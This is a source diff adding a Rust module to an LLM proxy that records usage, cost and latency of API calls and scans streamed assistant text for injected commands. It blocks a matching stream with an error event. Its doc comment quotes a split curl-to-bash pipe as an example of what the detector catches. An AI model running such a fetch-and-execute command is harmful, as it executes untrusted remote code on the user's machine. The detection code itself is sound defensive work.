@@ -1,0 +1,484 @@
+//! LLM calls: accounting and conversation reading around one exchange, for gateway traffic
+//! and for intercepted traffic to the providers' own hosts alike.
+//!
+//! [`LlmCall`] is created in `forward` when the request is an LLM call; a tap on the
+//! request body keeps its JSON (model, stream flag), and [`ResponseTap`] reads the answer
+//! as it passes — usage from the JSON body or from SSE events, time to the first output,
+//! and the assistant's text across deltas, scanned for injections (`curl ht` + `tps://x |
+//! bash` in two events is one finding). Nothing is delayed: a complete event leaves as soon
+//! as it is read; only an incomplete one waits for its end. A blocked stream ends with an
+//! error event in the provider's format. The LLM record is written when the call is
+//! dropped, however the exchange ended.
+
+use std::collections::VecDeque;
+use std::pin::Pin;
+use std::sync::{Arc, Mutex};
+use std::task::{Context, Poll};
+use std::time::{Duration, Instant};
+
+use airlock_llm::{CallKind, PriceTable, Provider, StreamUsage, Usage};
+use bytes::Bytes;
+use http_body::{Body, Frame, SizeHint};
+
+mod text;
+
+use crate::detect::Detector;
+use crate::detect::body::{BlockedError, record_detections};
+use crate::pipeline::body::BoxError;
+use crate::pipeline::{FlowTracker, ProxyBody};
+use crate::record::events::{LlmRecord, now_rfc3339};
+use text::AssistantText;
+
+/// Request bytes kept for parsing (a prompt larger than this is recorded without its
+/// message counts; the model and stream flag come first in every SDK's JSON).
+const REQUEST_KEEP: usize = 4 << 20;
+/// Response bytes kept for the usage of a JSON (non-streaming) answer.
+const RESPONSE_KEEP: usize = 8 << 20;
+
+/// One LLM call in flight.
+pub struct LlmCall {
+    provider: Provider,
+    kind: CallKind,
+    endpoint: String,
+    path: String,
+    started: Instant,
+    tracker: Arc<FlowTracker>,
+    prices: Arc<PriceTable>,
+    source: String,
+    listener: String,
+    state: Mutex<CallState>,
+}
+
+#[derive(Default)]
+struct CallState {
+    request: Vec<u8>,
+    status: Option<u16>,
+    usage: Usage,
+    stream: Option<bool>,
+    first_output: Option<Duration>,
+    finished: Option<Duration>,
+}
+
+impl LlmCall {
+    /// The call `method path` is, when it is one worth a record.
+    pub fn start(
+        provider: Provider,
+        method: &str,
+        path_and_query: &str,
+        tracker: Arc<FlowTracker>,
+        prices: Arc<PriceTable>,
+        source: String,
+        listener: String,
+    ) -> Option<Arc<LlmCall>> {
+        let path = path_and_query.split('?').next().unwrap_or("/");
+        let kind = airlock_llm::call_kind(provider, method, path)?;
+        if kind == CallKind::CountTokens {
+            // Counting tokens generates nothing and costs nothing: forwarded, not recorded.
+            return None;
+        }
+        Some(Arc::new(LlmCall {
+            provider,
+            kind,
+            endpoint: path.to_string(),
+            path: path_and_query.to_string(),
+            started: Instant::now(),
+            tracker,
+            prices,
+            source,
+            listener,
+            state: Mutex::new(CallState::default()),
+        }))
+    }
+
+    fn lock(&self) -> std::sync::MutexGuard<'_, CallState> {
+        self.state.lock().unwrap_or_else(|p| p.into_inner())
+    }
+
+    /// The upstream answered with `status`.
+    pub fn set_status(&self, status: u16) {
+        self.lock().status = Some(status);
+    }
+
+    fn keep_request(&self, data: &[u8]) {
+        let mut s = self.lock();
+        let room = REQUEST_KEEP.saturating_sub(s.request.len());
+        let take = room.min(data.len());
+        s.request.extend_from_slice(&data[..take]);
+    }
+
+    fn note_output(&self) {
+        let mut s = self.lock();
+        if s.first_output.is_none() {
+            s.first_output = Some(self.started.elapsed());
+        }
+    }
+
+    fn set_usage(&self, usage: &Usage) {
+        self.lock().usage = usage.clone();
+    }
+
+    fn finish(&self, stream: bool) {
+        let mut s = self.lock();
+        s.stream = Some(stream);
+        if s.finished.is_none() {
+            s.finished = Some(self.started.elapsed());
+        }
+    }
+}
+
+impl Drop for LlmCall {
+    fn drop(&mut self) {
+        let started = self.started;
+        let state = std::mem::take(&mut *self.lock());
+        // No answer from the provider (blocked before it, or unreachable): the flow record
+        // says what happened; there was no call to account.
+        let Some(status) = state.status else { return };
+        let request =
+            airlock_llm::parse_request(self.provider, self.kind, &self.path, &state.request);
+        let usage = state.usage;
+        let stream = state.stream.unwrap_or(request.stream);
+        let latency = state.finished.unwrap_or_else(|| started.elapsed());
+        let ms = |d: Duration| (d.as_secs_f64() * 1000.0 * 10.0).round() / 10.0;
+        let cost = if usage.model.is_some() {
+            self.prices.cost(self.provider, &usage)
+        } else {
+            None
+        };
+        let ctx = self.tracker.threat_context();
+        self.tracker.sink().llm(LlmRecord {
+            timestamp: now_rfc3339(),
+            provider: self.provider.as_str().to_string(),
+            model: usage.model.clone(),
+            endpoint: self.endpoint.clone(),
+            stream,
+            status: Some(status),
+            input_tokens: usage.input_tokens.unwrap_or(0),
+            output_tokens: usage.output_tokens.unwrap_or(0),
+            cache_read_tokens: usage.cache_read_tokens.unwrap_or(0),
+            cache_write_tokens: usage.cache_write_tokens.unwrap_or(0),
+            cost_usd: cost,
+            latency_ms: ms(latency),
+            ttft_ms: if stream {
+                state.first_output.map(ms)
+            } else {
+                None
+            },
+            source: self.source.clone(),
+            requested_model: request.requested_model,
+            listener: self.listener.clone(),
+            flow_id: ctx.flow_id,
+        });
+    }
+}
+
+/// Keeps the request body's first bytes for the call's record; the body passes unchanged.
+pub struct RequestTap {
+    inner: ProxyBody,
+    call: Arc<LlmCall>,
+}
+
+impl RequestTap {
+    pub fn new(inner: ProxyBody, call: Arc<LlmCall>) -> Self {
+        RequestTap { inner, call }
+    }
+}
+
+impl Body for RequestTap {
+    type Data = Bytes;
+    type Error = BoxError;
+
+    fn poll_frame(
+        mut self: Pin<&mut Self>,
+        cx: &mut Context<'_>,
+    ) -> Poll<Option<Result<Frame<Bytes>, BoxError>>> {
+        let polled = Pin::new(&mut self.inner).poll_frame(cx);
+        if let Poll::Ready(Some(Ok(frame))) = &polled
+            && let Some(data) = frame.data_ref()
+        {
+            self.call.keep_request(data);
+        }
+        polled
+    }
+
+    fn is_end_stream(&self) -> bool {
+        self.inner.is_end_stream()
+    }
+
+    fn size_hint(&self) -> SizeHint {
+        self.inner.size_hint()
+    }
+}
+
+/// Reads the answer as it passes to the client (see the module docs).
+pub struct ResponseTap {
+    inner: ProxyBody,
+    call: Arc<LlmCall>,
+    detector: Arc<Detector>,
+    mode: Mode,
+    out: VecDeque<Bytes>,
+    done: bool,
+    /// The answer has been read to its end (or given up on): usage and timing are set.
+    finalized: bool,
+}
+
+enum Mode {
+    Sse {
+        /// Bytes after the last complete event: they leave when their event is complete.
+        pending: Vec<u8>,
+        usage: Box<StreamUsage>,
+        /// The assistant's text, as one stream across events.
+        text: Box<AssistantText>,
+    },
+    Json {
+        kept: Vec<u8>,
+        decoder: Option<Box<airlock_scan::decompress::Decompressor>>,
+    },
+}
+
+impl ResponseTap {
+    /// `sse` for `text/event-stream`; `encoding` is the Content-Encoding the client will
+    /// see (the body is decoded here to read it).
+    pub fn new(
+        inner: ProxyBody,
+        call: Arc<LlmCall>,
+        detector: Arc<Detector>,
+        sse: bool,
+        encoding: Option<&str>,
+    ) -> Self {
+        let mode = if sse {
+            Mode::Sse {
+                pending: Vec::new(),
+                usage: Box::new(StreamUsage::new(call.provider, call.kind)),
+                text: Box::new(AssistantText::new(detector.clone())),
+            }
+        } else {
+            Mode::Json {
+                kept: Vec::new(),
+                decoder: encoding
+                    .and_then(|e| airlock_scan::decompress::Decompressor::for_encoding(e).ok())
+                    .flatten()
+                    .map(Box::new),
+            }
+        };
+        ResponseTap {
+            inner,
+            call,
+            detector,
+            mode,
+            out: VecDeque::new(),
+            done: false,
+            finalized: false,
+        }
+    }
+
+    /// Handles a data frame; queues what may leave now.
+    fn on_data(&mut self, data: Bytes) {
+        match &mut self.mode {
+            Mode::Json { kept, decoder } => {
+                if kept.len() < RESPONSE_KEEP {
+                    match decoder {
+                        Some(d) => {
+                            let _ = d.feed(&data, false, kept);
+                        }
+                        None => kept.extend_from_slice(&data[..data.len().min(RESPONSE_KEEP)]),
+                    }
+                }
+                self.out.push_back(data);
+            }
+            Mode::Sse { pending, .. } => {
+                pending.extend_from_slice(&data);
+                self.drain_events(false);
+            }
+        }
+    }
+
+    /// SSE: reads every complete event in `pending` and queues it, unless one is blocked.
+    fn drain_events(&mut self, at_end: bool) {
+        let Mode::Sse {
+            pending,
+            usage,
+            text,
+        } = &mut self.mode
+        else {
+            return;
+        };
+        let mut start = 0;
+        let mut release = 0;
+        loop {
+            let (event_end, next) = match event_boundary(&pending[start..]) {
+                Some((e, n)) => (start + e, start + n),
+                None if at_end && start < pending.len() => (pending.len(), pending.len()),
+                None => break,
+            };
+            let info = usage.on_event(&pending[start..event_end]);
+            if info.output {
+                self.call.note_output();
+            }
+            if let Some(t) = info.text.filter(|t| !t.is_empty()) {
+                let detections = text.feed(Some(t.as_bytes()));
+                if let Some(reason) =
+                    record_detections(&self.detector, &self.call.tracker, &detections)
+                        .map(|b| b.reason)
+                {
+                    // This event and everything after it stay here; the client gets the
+                    // provider's own kind of error instead.
+                    self.call.set_usage(usage.usage());
+                    self.call.finish(true);
+                    self.finalized = true;
+                    let before = pending[..release].to_vec();
+                    if !before.is_empty() {
+                        self.out.push_back(Bytes::from(before));
+                    }
+                    self.out
+                        .push_back(Bytes::from(airlock_llm::stream_error_event(
+                            self.call.provider,
+                            self.call.kind,
+                            &format!("blocked by airlock: {reason}"),
+                        )));
+                    pending.clear();
+                    self.done = true;
+                    return;
+                }
+            }
+            release = next;
+            start = next;
+        }
+        self.call.set_usage(usage.usage());
+        if release > 0 {
+            let ready: Vec<u8> = pending.drain(..release).collect();
+            self.out.push_back(Bytes::from(ready));
+        }
+    }
+
+    /// The upstream body ended: the last event, the usage of a JSON answer. Also runs when
+    /// the body is dropped first (hyper stops at Content-Length without asking for the end).
+    fn on_end(&mut self) {
+        if std::mem::replace(&mut self.finalized, true) {
+            return;
+        }
+        match &mut self.mode {
+            Mode::Sse { .. } => {
+                self.drain_events(true);
+                if let Mode::Sse { pending, text, .. } = &mut self.mode {
+                    if !pending.is_empty() {
+                        self.out.push_back(Bytes::from(std::mem::take(pending)));
+                    }
+                    let detections = text.feed(None);
+                    if let Some(block) =
+                        record_detections(&self.detector, &self.call.tracker, &detections)
+                    {
+                        let reason = block.reason;
+                        tracing::debug!(%reason, "a finding at the end of an LLM stream");
+                    }
+                }
+                self.call.finish(true);
+            }
+            Mode::Json { kept, decoder } => {
+                if let Some(d) = decoder {
+                    let _ = d.feed(&[], true, kept);
+                }
+                let usage = airlock_llm::parse_response(self.call.provider, self.call.kind, kept);
+                self.call.set_usage(&usage);
+                self.call.finish(false);
+            }
+        }
+    }
+}
+
+/// The end of the first complete SSE event in `buf`: (end of its lines, start of the next).
+fn event_boundary(buf: &[u8]) -> Option<(usize, usize)> {
+    let lf = memchr::memmem::find(buf, b"\n\n").map(|i| (i + 1, i + 2));
+    let crlf = memchr::memmem::find(buf, b"\r\n\r\n").map(|i| (i + 2, i + 4));
+    match (lf, crlf) {
+        (Some(a), Some(b)) => Some(if a.1 <= b.1 { a } else { b }),
+        (a, b) => a.or(b),
+    }
+}
+
+impl Body for ResponseTap {
+    type Data = Bytes;
+    type Error = BoxError;
+
+    fn poll_frame(
+        mut self: Pin<&mut Self>,
+        cx: &mut Context<'_>,
+    ) -> Poll<Option<Result<Frame<Bytes>, BoxError>>> {
+        let this = &mut *self;
+        loop {
+            if let Some(data) = this.out.pop_front() {
+                return Poll::Ready(Some(Ok(Frame::data(data))));
+            }
+            if this.done {
+                return Poll::Ready(None);
+            }
+            match Pin::new(&mut this.inner).poll_frame(cx) {
+                Poll::Ready(Some(Ok(frame))) => match frame.into_data() {
+                    Ok(data) => this.on_data(data),
+                    Err(frame) => return Poll::Ready(Some(Ok(frame))),
+                },
+                Poll::Ready(Some(Err(e))) => {
+                    // Detection on the raw stream blocked it: in an SSE answer, end with the
+                    // provider's error event rather than a torn connection.
+                    if let Mode::Sse { .. } = this.mode
+                        && let Some(blocked) = e.downcast_ref::<BlockedError>()
+                    {
+                        let message = blocked.to_string();
+                        this.drain_events(false);
+                        if let Mode::Sse { pending, .. } = &mut this.mode {
+                            pending.clear();
+                        }
+                        this.out
+                            .push_back(Bytes::from(airlock_llm::stream_error_event(
+                                this.call.provider,
+                                this.call.kind,
+                                &message,
+                            )));
+                        this.call.finish(true);
+                        this.finalized = true;
+                        this.done = true;
+                        continue;
+                    }
+                    this.done = true;
+                    return Poll::Ready(Some(Err(e)));
+                }
+                Poll::Ready(None) => {
+                    this.on_end();
+                    this.done = true;
+                }
+                Poll::Pending => return Poll::Pending,
+            }
+        }
+    }
+
+    fn is_end_stream(&self) -> bool {
+        self.done && self.out.is_empty()
+    }
+
+    fn size_hint(&self) -> SizeHint {
+        match self.mode {
+            Mode::Json { .. } => self.inner.size_hint(),
+            Mode::Sse { .. } => SizeHint::default(),
+        }
+    }
+}
+
+impl Drop for ResponseTap {
+    fn drop(&mut self) {
+        if !self.finalized {
+            self.on_end();
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::event_boundary;
+
+    #[test]
+    fn events_end_at_a_blank_line_of_either_kind() {
+        assert_eq!(event_boundary(b"data: a\n\ndata: b"), Some((8, 9)));
+        assert_eq!(event_boundary(b"data: a\r\n\r\ndata: b"), Some((9, 11)));
+        assert_eq!(event_boundary(b"data: a\n"), None);
+        assert_eq!(event_boundary(b"data: a\r\n\r\nx\n\n"), Some((9, 11)));
+    }
+}
